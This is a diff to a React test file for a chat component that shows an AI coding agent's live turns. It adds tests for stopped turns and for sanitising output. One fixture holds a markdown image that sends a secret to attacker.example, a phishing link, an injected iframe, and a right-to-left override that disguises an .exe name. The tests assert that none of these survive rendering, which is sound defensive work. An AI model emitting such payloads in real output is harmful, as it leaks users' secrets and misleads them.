@@ -16,6 +16,7 @@ afterEach(() => {
 const post = (props: Record<string, unknown> | null, message = 'Hello from the post (as mobile sees it)'): HostPost => ({
     id: 'post1',
     channel_id: 'c1',
+    user_id: 'u-bot',
     type: 'custom_claude_code',
     message,
     props,
@@ -53,12 +54,21 @@ describe('TurnPost', () => {
 
         act(() => void feed(ev(6, 'tool', {phase: 'result', tool_use_id: 't1', tool: 'Bash', is_error: false, output: 'a.rs\nb.rs\n'})));
         expect(row.querySelector('summary')!.getAttribute('aria-label')).toBe('Bash ls -la: done');
-        expect(screen.getByLabelText('Output of Bash').textContent).toBe('a.rs\nb.rs\n');
+        expect(screen.getByRole('region', {name: 'Output of Bash'}).textContent).toBe('a.rs\nb.rs\n');
+        expect(screen.getByRole('region', {name: 'Command'}).textContent).toBe('ls -la');
 
         act(() => void feed(ev(7, 'turn', {prompt_id: 'p1', is_error: false, subtype: 'success', duration_ms: 1234, num_turns: 2, total_cost_usd: '0.0123'})));
         expect(screen.getByRole('status').textContent).toBe('✓ Done in 1.2 s · 2 turns · $0.0123');
         expect(turn.getAttribute('aria-busy')).toBe('false');
         expect(turn.textContent).toContain('Let me look.');
+    });
+
+    it('a turn the session stopped mid-way is no longer busy and says it stopped', () => {
+        const {feed, view} = mount(post({claude_code_session: 's1', claude_code_turn: 'p1'}));
+        act(() => void feed(...start, ev(3, 'message', {text: 'half way'}), ev(4, 'status', {state: 'stopping'}), ev(5, 'status', {state: 'stopped'})));
+        expect(view.container.querySelector('.claude-code-turn')!.getAttribute('aria-busy')).toBe('false');
+        expect(screen.getByRole('status').textContent).toBe('✗ Stopped');
+        expect(view.container.textContent).toContain('half way');
     });
 
     it('finds its turn by the seq that opened it, too', () => {
@@ -127,6 +137,32 @@ describe('TurnPost', () => {
         cleanup();
 
         expect(mount(post(null)).view.container.textContent).toBe('Hello from the post (as mobile sees it)');
+    });
+
+    it('renders live text through the host markdown with no image, no link, and the bidi controls shown', () => {
+        const seen: string[] = [];
+        // The host's markdown, as far as this payload goes: an image, a link, a paragraph.
+        window.PostUtils = {
+            formatText: (text) =>
+                `<p>${text.replace(/!\[([^\]]*)\]\(([^)]*)\)/g, '<img src="$2" alt="$1">').replace(/\[([^\]]*)\]\(([^)]*)\)/g, '<a href="$2">$1</a>')}</p><iframe src="https://attacker.example/f"></iframe>`,
+            messageHtmlToComponent: (html) => {
+                seen.push(html);
+                return <div data-testid='host-md' dangerouslySetInnerHTML={{__html: html}} />;
+            },
+        };
+        const {feed} = mount(post({claude_code_session: 's1', claude_code_turn: 'p1'}));
+        const leak = '![x](https://attacker.example/leak?k=SECRET) see [the docs](https://attacker.example/phish) in \u202etxt.exe';
+        act(() => void feed(...start, ev(3, 'message', {text: leak})));
+
+        const shown = screen.getByTestId('host-md');
+        expect(shown.querySelector('img, a, iframe')).toBeNull();
+        expect(shown.textContent).toBe('[image: x] see the docs in [U+202E]txt.exe');
+        expect(seen.at(-1)).not.toContain('attacker.example');
+    });
+
+    it('shows bidi and invisible controls of a plain-text message escaped, as the server does', () => {
+        const {view} = mount(post(null, 'report\u202Egnp.exe\u200b\u0007 ok \u200d'));
+        expect(view.container.textContent).toBe('report[U+202E]gnp.exe[U+200B][U+0007] ok \u200d');
     });
 
     it("renders markdown through the host's PostUtils when present", () => {
